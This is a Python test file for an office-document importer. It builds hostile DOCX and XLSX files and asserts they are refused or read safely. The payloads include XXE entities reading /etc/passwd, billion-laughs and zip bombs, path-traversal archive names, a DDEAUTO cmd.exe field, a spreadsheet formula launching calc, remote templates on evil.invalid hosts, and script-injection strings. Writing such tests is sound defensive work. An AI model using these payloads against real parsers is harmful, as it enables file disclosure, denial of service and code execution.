"""Hostile files for the importer: bombs, archives that lie, XML that fetches, programs in office files. Each is
refused in words, or read as the text that it is; no other file is opened and no part is run."""

from __future__ import annotations

import io
import time
import zipfile

import pytest

from gonghui.intake import worksheet
from gonghui.intake.refusal import IntakeError
from tests.office import Messy, png, with_part
from tests.test_importing import only, taken, workbook

WORD = Messy()
WORD.add("青禾县总工会2024年工会工作总结")
WORD.add("年末会员人数7402人。")
WHOLE = WORD.bytes
BOOK = workbook([["指标", 2021], ["会员人数", 5]])
RELATIONS, SHEET = "word/_rels/document.xml.rels", "xl/worksheets/sheet1.xml"
FETCH = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
SIZE, DECLARED = "文件展开以后大得不正常", "文件里有不该有的XML声明"
BROKEN, HALF, LOCKED = "文件损坏了", "文件不完整", "文件加了密"
TOO_MUCH = "文件里的文字或表格太多"
MERGED, WIDE = "表里合并的单元格大得不正常", "表太大，装不下"
ALL = "A1:XFD1048576"
FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'


def xml(raw: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return archive.read(name)


def swapped(raw: bytes, name: str, old: bytes, new: bytes) -> bytes:
    content = xml(raw, name)
    assert old in content
    return with_part(raw, name, content.replace(old, new, 1))


def document(inner: str) -> bytes:
    return swapped(WHOLE, "word/document.xml", b"<w:body>", b"<w:body>" + inner.encode())


def related(kind: str, target: str, mode: str = "External") -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    new = f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return swapped(WHOLE, RELATIONS, b"</Relationships>", new.encode())


def header(raw: bytes, name: str, offset: int, value: bytes) -> bytes:
    """The file with some bytes of a part's entry in the directory changed."""
    at = raw.rindex(b"PK\x01\x02", 0, raw.rindex(name.encode()))
    return raw[: at + offset] + value + raw[at + offset + len(value) :]


def lying() -> bytes:
    """A part that says it is small and unfolds to thirty megabytes."""
    raw = with_part(WHOLE, "word/document.xml", b" " * 30_000_000)
    return header(raw, "word/document.xml", 24, (1000).to_bytes(4, "little"))


def twice() -> bytes:
    stream = io.BytesIO(WHOLE)
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("word/document.xml", FETCH)
    return stream.getvalue()


def named(name: str) -> bytes:
    return with_part(WHOLE, name, b"evil")


def merging(cells: str) -> bytes:
    """A book that merges every cell there may be: the library makes each."""
    return swapped(BOOK, SHEET, b"</sheetData>", f"</sheetData>{cells}".encode())


def renamed_sheet() -> bytes:
    """A sheet under a name that does not say what it is."""
    inner = xml(merging(f"<mergeCells><mergeCell ref='{ALL}'/></mergeCells>"), SHEET)
    book = swapped(BOOK, "xl/_rels/workbook.xml.rels", b"sheet1.xml", b"sheet1.bin")
    return with_part(book, "xl/worksheets/sheet1.bin", inner)


REFUSED = {
    "half a million empty paragraphs": ("a.docx", lambda: with_part(WHOLE, "word/a.xml", b"<a>" + b"<b/>" * 500_000 + b"</a>"), TOO_MUCH),
    "the same under another ending": ("a.docx", lambda: with_part(WHOLE, "word/a.bin", b"<a>" + b"<b/>" * 500_000 + b"</a>"), TOO_MUCH),
    "everything merged": ("a.xlsx", lambda: merging(f'<mergeCells><mergeCell ref="{ALL}"/></mergeCells>'), MERGED),
    "merged in other quotes": ("a.xlsx", lambda: merging(f"<mergeCells><mergeCell ref='{ALL}'/></mergeCells>"), MERGED),
    "merged in small letters": ("a.xlsx", lambda: merging(f'<mergeCells><mergeCell ref="{ALL.lower()}"/></mergeCells>'), MERGED),
    "merged by reference": ("a.xlsx", lambda: merging('<mergeCells><mergeCell ref="&#65;1:XFD1048576"/></mergeCells>'), MERGED),
    "merged the wrong way round": ("a.xlsx", lambda: merging('<mergeCells><mergeCell ref="XFD1048576:A1"/></mergeCells>'), MERGED),
    "merged in a part of another ending": ("a.xlsx", renamed_sheet, MERGED),
    "merged two by two": ("a.xlsx", lambda: merging('<mergeCells>' + '<mergeCell ref="A1:B1"/>' * 9_000 + "</mergeCells>"), MERGED),
    "external entity": ("a.docx", lambda: with_part(WHOLE, "word/document.xml", FETCH), DECLARED),
    "entity in the styles": ("a.docx", lambda: with_part(WHOLE, "word/styles.xml", FETCH), DECLARED),
    "entity in the relations": ("a.docx", lambda: with_part(WHOLE, RELATIONS, FETCH), DECLARED),
    "entity in the types": ("a.docx", lambda: with_part(WHOLE, "[Content_Types].xml", FETCH), DECLARED),
    "entity in the properties": ("a.docx", lambda: with_part(WHOLE, "docProps/core.xml", LAUGHS), DECLARED),
    "entity in UTF-16": ("a.docx", lambda: with_part(WHOLE, "word/document.xml", FETCH.decode().encode("utf-16")), DECLARED),
    "entity in UTF-16 without a mark": ("a.docx", lambda: with_part(WHOLE, "word/document.xml", FETCH.decode().encode("utf-16-le")), DECLARED),
    "entity in a part of another ending": ("a.docx", lambda: swapped(with_part(WHOLE, "word/evil.bin", LAUGHS), "[Content_Types].xml", b"/word/document.xml", b"/word/evil.bin"), ""),
    "entity in a sheet": ("a.xlsx", lambda: with_part(BOOK, SHEET, FETCH), DECLARED),
    "entity in the words of a book": ("a.xlsx", lambda: with_part(BOOK, "xl/sharedStrings.xml", LAUGHS), DECLARED),
    "a part that lies of its size": ("a.docx", lying, ""),
    "a part twice": ("a.docx", twice, DECLARED),
    "a part of four hundred megabytes": ("a.docx", lambda: header(WHOLE, "word/document.xml", 24, (400_000_000).to_bytes(4, "little")), SIZE),
    "entity in UTF-7": ("a.docx", lambda: with_part(WHOLE, "word/document.xml", b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a>'), DECLARED),
    "entity in EBCDIC": ("a.docx", lambda: with_part(WHOLE, "word/document.xml", FETCH.decode().encode("cp037")), DECLARED),
    "a long text": ("a.docx", lambda: with_part(WHOLE, "word/a.xml", b"<" + bytes(range(256)) * 160_000), ""),
    "encrypted": ("a.docx", lambda: header(WHOLE, "word/document.xml", 8, b"\1"), LOCKED),
    "an unknown compression": ("a.docx", lambda: header(WHOLE, "word/document.xml", 10, b"\x63"), HALF),
    "wrong checksum": ("a.docx", lambda: header(WHOLE, "word/document.xml", 16, b"abcd"), HALF),
    "a hundred thousand styles within styles": ("a.docx", lambda: document("<w:sdt><w:sdtContent>" * 3000 + "</w:sdtContent></w:sdt>" * 3000), BROKEN),
    "a script": ("a.docx", lambda: b"#!/bin/sh\nid\n", "扩展名是 .docx，里面却是别的内容"),
    "a program": ("a.docx", lambda: b"MZ\x90\0" + b"\0" * 99, "扩展名是 .docx，里面却是别的内容"),
    "a web archive": ("a.docx", lambda: b"MIME-Version: 1.0\n", "扩展名是 .docx，里面却是网页"),
    "macros by name": ("a.docm", lambda: WHOLE, "不收 .docm 文件"),
    "a template": ("a.dotm", lambda: WHOLE, "不收 .dotm 文件"),
    "a macro workbook": ("a.xlsm", lambda: BOOK, "不收 .xlsm 文件"),
    "a web page": ("a.html", lambda: b"<script>alert(1)</script>", "不收 .html 文件"),
    "a picture": ("a.svg", lambda: b"<svg/>", "不收 .svg 文件"),
    "a device": ("CON", lambda: b"a", "文件名没有扩展名"),
    "nothing but a directory": ("a.docx", lambda: b"PK\x05\x06" + b"\0" * 18, "扩展名是 .docx，里面却不是Word 文档"),
    "a directory without its end": ("a.docx", lambda: WHOLE[:-12], HALF),
}  # fmt: skip

READ = {
    "paths out of the archive": ("a.docx", lambda: named("../../../evil.txt")),
    "a path from the root": ("a.docx", lambda: named("/etc/cron.d/evil")),
    "a path of Windows": ("a.docx", lambda: named("..\\..\\evil.bat")),
    "macros": ("a.docx", lambda: named("word/vbaProject.bin")),
    "an object": ("a.docx", lambda: with_part(WHOLE, "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")),
    "a template from elsewhere": ("a.docx", lambda: related("attachedTemplate", "http://evil.invalid/x.dotm")),
    "a picture from the machine": ("a.docx", lambda: related("image", "file:///etc/passwd")),
    "notes from elsewhere": ("a.docx", lambda: related("footnotes", "file:///etc/passwd")),
    "comments from elsewhere": ("a.docx", lambda: related("comments", "http://evil.invalid/x.xml")),
    "a frame": ("a.docx", lambda: related("frame", "http://evil.invalid/")),
    "a field that runs": ("a.docx", lambda: document('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')),
    "a field that includes": ("a.docx", lambda: document('<w:p><w:fldSimple w:instr="INCLUDETEXT file:///etc/passwd"/></w:p>')),
    "columns without end": ("a.docx", lambda: document('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>')),
    "markup in the text": ("a.docx", lambda: document("<w:p><w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }} [x](javascript:alert(1))</w:t></w:r></w:p>")),
    "turned text": ("a.docx", lambda: document("<w:p><w:r><w:t>会员\u202e2047\u202c人</w:t></w:r></w:p>")),
    "a huge picture": ("a.docx", lambda: with_part(WHOLE, "word/media/image1.png", png()[:16] + b"\x7f\xff\xff\xff" * 2 + png()[24:])),
    "a formula": ("a.xlsx", lambda: swapped(BOOK, SHEET, b"</sheetData>", b'<row r="3"><c r="A3" t="str"><f>cmd|\' /C calc\'!A0</f><v>=1+1</v></c><c r="B3"><v>3</v></c></row></sheetData>')),
    "a link to another book": ("a.xlsx", lambda: with_part(BOOK, "xl/externalLinks/externalLink1.xml", b"<externalLink/>")),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_file_is_refused_in_words(name):
    file, make, message = REFUSED[name]
    raw, begun = make(), time.process_time()
    with pytest.raises(IntakeError) as refusal:
        taken(file, raw)
    assert str(refusal.value).startswith(message or "文件")
    assert time.process_time() - begun < 3


@pytest.mark.parametrize("name", READ)
def test_what_a_hostile_file_would_run_or_fetch_stays_out(name):
    file, make = READ[name]
    drafts = taken(file, make())
    text = "".join(draft.markdown for draft in drafts)
    assert drafts
    assert "root:" not in text
    assert not [n for draft in drafts for n in draft.pictures if "/" in n or "\\" in n]


def test_cells_far_out_on_many_sheets_are_not_made(monkeypatch):
    book = swapped(BOOK, SHEET, b"</sheetData>", FAR)
    monkeypatch.setattr(worksheet, "MAX_CELLS", 359_999)  # 3000 rows of 120
    with pytest.raises(IntakeError, match=WIDE):
        taken("a.xlsx", book)


def test_what_an_importer_writes_is_refused_or_harmless_like_what_a_person_writes():
    draft = only(READ["markup in the text"][1]())
    assert "<script>" not in draft.markdown
    assert "{{" not in draft.markdown
    assert "](javascript:" not in draft.markdown
